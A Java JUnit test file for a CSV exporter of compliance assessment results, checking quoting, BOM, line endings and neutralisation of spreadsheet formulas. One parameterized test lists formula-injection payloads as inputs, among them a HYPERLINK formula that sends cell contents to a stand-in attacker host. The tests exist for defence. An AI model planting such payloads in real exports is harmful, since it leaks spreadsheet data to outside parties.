package dev.tousei.assessment.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** RFC 4180 CSV, UTF-8 with BOM for Excel, and no formula a spreadsheet would evaluate. */
class CsvExporterTest {

    private static final UUID EVIDENCE_1 = UUID.fromString("11111111-1111-4111-8111-111111111111");
    private static final UUID EVIDENCE_2 = UUID.fromString("22222222-2222-4222-8222-222222222222");
    private static final UUID ATTESTATION = UUID.fromString("33333333-3333-4333-8333-333333333333");

    private final CsvExporter exporter = new CsvExporter();

    private static AssessedControl failed(String reason, List<String> resources) {
        return new AssessedControl("aws-wa-security", "sec04-bp01", "SEC4-1", "サービスとアプリケーションのログ記録を設定する",
                "Configure service and application logging", "AUTOMATED", "123456789012", "FAILED", reason,
                Instant.parse("2026-04-01T09:30:15.250Z"), List.of(EVIDENCE_1, EVIDENCE_2), List.of(), resources);
    }

    @Test
    void startsWithBomThenHeaderAndEndsEveryRecordWithCrlf() {
        byte[] bytes = exporter.export(List.of(failed("StopLogging on trail org", List.of())));

        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).startsWith("framework,control_id,display_id,title_ja,title_en,account,status,since,reason,"
                + "evidence_ids,attestation_ids,failed_resources\r\n");
        assertThat(text).endsWith("\r\n");
        assertThat(text.replace("\r\n", "")).doesNotContain("\n").doesNotContain("\r");
        assertThat(text.split("\r\n")).hasSize(2);
    }

    @Test
    void writesEveryColumnWithListsSpaceSeparatedAndTimesInUtc() {
        String arn = "arn:aws:cloudtrail:ap-northeast-1:123456789012:trail/org";
        List<List<String>> records = records(exporter.export(List.of(
                failed("StopLogging on trail org", List.of(arn, arn + "2")),
                new AssessedControl("fisc-control-standards", "fisc-t1", "統1", "経営方針", null, "ATTESTATION",
                        "123456789012", "PASSED", "Attested", Instant.parse("2026-04-02T00:00:00Z"), List.of(),
                        List.of(ATTESTATION), List.of()))));

        assertThat(records).hasSize(3);
        assertThat(records.get(0)).isEqualTo(CsvExporter.HEADER);
        assertThat(records.get(1)).containsExactly("aws-wa-security", "sec04-bp01", "SEC4-1",
                "サービスとアプリケーションのログ記録を設定する", "Configure service and application logging", "123456789012",
                "FAILED", "2026-04-01T09:30:15.250Z", "StopLogging on trail org", EVIDENCE_1 + " " + EVIDENCE_2, "",
                arn + " " + arn + "2");
        assertThat(records.get(2)).containsExactly("fisc-control-standards", "fisc-t1", "統1", "経営方針", "",
                "123456789012", "PASSED", "2026-04-02T00:00:00Z", "Attested", "", ATTESTATION.toString(), "");
    }

    @Test
    void quotesFieldsWithCommaQuoteOrLineBreakAndDoublesQuotes() {
        assertThat(CsvExporter.field("plain text")).isEqualTo("plain text");
        assertThat(CsvExporter.field("")).isEmpty();
        assertThat(CsvExporter.field("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvExporter.field("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvExporter.field("line 1\nline 2")).isEqualTo("\"line 1\nline 2\"");
        assertThat(CsvExporter.field("line 1\r\nline 2")).isEqualTo("\"line 1\r\nline 2\"");
        assertThat(CsvExporter.field("日本語、全角カンマ")).isEqualTo("日本語、全角カンマ");

        String reason = "Trail \"org\", stopped\r\nby ops, twice";
        List<List<String>> records = records(exporter.export(List.of(failed(reason, List.of()))));
        assertThat(records.get(1).get(8)).isEqualTo(reason);
        assertThat(records.get(1)).hasSize(CsvExporter.HEADER.size());
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd",
            "\r=1+1"})
    void prefixesFormulaStartsWithASingleQuote(String value) {
        String written = CsvExporter.field(value);
        assertThat(written.startsWith("'") || written.startsWith("\"'")).isTrue();

        List<List<String>> records = records(exporter.export(List.of(failed(value, List.of(value)))));
        assertThat(records.get(1).get(8)).isEqualTo("'" + value);
        assertThat(records.get(1).get(11)).isEqualTo("'" + value);
    }

    @Test
    void leavesFormulaCharactersAloneAfterTheFirstPositionAndGuardsOnlyTheStart() {
        assertThat(CsvExporter.field("a=b+c-d@e")).isEqualTo("a=b+c-d@e");
        assertThat(CsvExporter.field("=1,2")).isEqualTo("\"'=1,2\"");
        assertThat(CsvExporter.field("-")).isEqualTo("'-");
    }

    @Test
    void emptyExportIsTheHeaderAlone() {
        List<List<String>> records = records(exporter.export(List.of()));
        assertThat(records).containsExactly(CsvExporter.HEADER);
    }

    private static List<List<String>> records(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text.charAt(0)).isEqualTo('\uFEFF');
        return ExportChecks.csvRecords(text.substring(1));
    }
}
